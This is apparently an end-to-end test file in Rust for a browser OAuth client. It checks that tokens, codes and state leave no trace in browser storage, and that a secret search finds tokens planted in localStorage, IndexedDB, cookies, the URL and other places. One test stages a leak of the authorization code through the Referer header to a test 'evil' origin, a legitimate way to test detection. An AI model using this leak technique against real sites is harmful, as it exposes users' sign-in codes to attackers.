//! After a sign-in the tokens are in memory and nowhere else, and the search for them is able to
//! find them.

use axum::http::Method;
use e2e::actions::Consent;
use e2e::checks::places::INSPECTED;
use e2e::checks::secrets::{Finding, Secrets};
use e2e::fixtures::world::World;
use serde_json::json;

const ALL_KINDS: [&str; 6] =
    ["access_token", "code", "code_verifier", "id_token", "refresh_token", "state"];

/// BRW-01, BRW-02, BRW-17, RES-05, REF-01, ARES-16, HV-44, HV-54: after sign-in, an API call and
/// a refused one, no token, code, verifier or state is in any place of the browser.
#[tokio::test]
async fn no_secret_is_left_anywhere() {
    let world = World::start().await;
    world.sign_in().await;
    world.browser.press("call-api").await;
    world.expect_response("200").await;

    let secrets = Secrets::of(&world.traffic);
    assert_eq!(secrets.kinds(), ALL_KINDS, "the search knows what to look for");
    assert_eq!(secrets.found_in(&world.places().await), []);

    world.open("/request").await;
    assert_eq!(Secrets::of(&world.traffic).found_in(&world.places().await), []);
}

/// BRW-02, AREQ-09, AREQ-18: while the person is at the server, sessionStorage holds one pending
/// authorization and no token, and the next attempt starts from clean.
#[tokio::test]
async fn only_the_pending_authorization_waits() {
    let world = World::start().await;
    world.go_to_server().await;
    let requests = world.traffic.authorization_requests();
    let state = requests.last().and_then(|it| it.parameter("state")).expect("a state");

    let (counts, stored): (Vec<_>, Vec<_>) =
        world.session_storage().await.into_iter().partition(is_count);
    assert_eq!(stored.len(), 1, "one record in sessionStorage");
    let is_number = |(_, count): &(String, String)| count.parse::<u64>().is_ok();
    assert!(counts.len() == 1 && counts.iter().all(is_number), "one departure is counted");
    let (key, record) = &stored[0];
    assert!(key.contains(&state), "it is stored under its state");
    assert!(!record.contains("access_token") && !record.contains("eyJ"), "it holds no token");

    world.browser.client.back().await.expect("the server's page again");
    world.settle(Consent::Accept).await;
    world.expect_status("signed-in").await;
    let mut stored = world.session_storage().await;
    stored.retain(|place| !is_count(place));
    assert_eq!(stored, [], "it was taken");
}

/// Whether it counts departures, by their times alone.
fn is_count((key, _): &(String, String)) -> bool {
    key.contains(":departures:")
}

/// BRW-01, HV-54: the search finds a secret that was planted, in each place that the browser lets be
/// searched.
#[tokio::test]
async fn the_search_finds_what_was_planted() {
    let world = World::start().await;
    world.sign_in().await;
    let secrets = Secrets::of(&world.traffic);
    let token = secrets.values("access_token")[0].clone();
    let inspects = world.browser.engine().can_be_inspected();
    for (place, script) in PLANTS.iter().filter(|it| inspects || !INSPECTED.contains(&it.0)) {
        world.browser.run(script, vec![json!(token)]).await;
        let found = secrets.found_in(&world.places().await);
        let expected = Finding { place: (*place).to_owned(), kind: "access_token" };
        assert!(found.contains(&expected), "nothing found in {place}");
    }
}

/// HV-44: the search finds a secret in a recorded Referer.
#[tokio::test]
async fn the_search_finds_a_referer() {
    let world = World::start().await;
    // The leak is the test's own; the app's host would let it go nowhere.
    world.app.allow("connect-src", &world.evil.origin);
    world.sign_in().await;
    let code = Secrets::of(&world.traffic).values("code")[0].clone();
    let leak = "return fetch(arguments[0], { referrerPolicy: 'unsafe-url' }).then(() => null)";
    let address = format!("/?{code}");
    world.browser.run("history.replaceState(null, '', arguments[0])", vec![json!(address)]).await;
    world.browser.run(leak, vec![json!(format!("{}/", world.evil.origin))]).await;
    let seen = world.traffic.matching(|it| it.server == "evil" && it.method == Method::GET);
    assert_eq!(seen.len(), 1);
    let found = Secrets::of(&world.traffic).found_in(&world.places().await);
    let found: Vec<&str> = found.iter().map(|finding| finding.place.as_str()).collect();
    assert!(found.contains(&"Referer") && found.contains(&"URL") && found.contains(&"history"));
}

/// A place, and the script that puts its argument there.
const PLANTS: &[(&str, &str)] = &[
    ("localStorage", "localStorage.setItem('x', arguments[0])"),
    ("sessionStorage", "sessionStorage.setItem('x', arguments[0])"),
    ("indexedDB", PLANT_IN_DATABASE),
    ("caches", "return caches.open('x').then((it) => it.put('/x', new Response(arguments[0])))"),
    ("document.cookie", "document.cookie = 'x=' + arguments[0].split('.').pop()"),
    ("cookies", "return null"),
    ("history.state", "history.replaceState(arguments[0], '')"),
    ("window.name", "window.name = arguments[0]"),
    ("DOM", "document.body.append(arguments[0])"),
    ("console", "console.log(arguments[0])"),
    ("URL", "location.hash = arguments[0]"),
    ("history", "return null"),
];

const PLANT_IN_DATABASE: &str = r"
const secret = arguments[0];
return new Promise((done) => {
  const opening = indexedDB.open('x');
  opening.onupgradeneeded = () => opening.result.createObjectStore('x', { autoIncrement: true });
  opening.onsuccess = () => {
    const writing = opening.result.transaction('x', 'readwrite');
    writing.objectStore('x').add({ secret });
    writing.oncomplete = () => { opening.result.close(); done(null); };
  };
});";
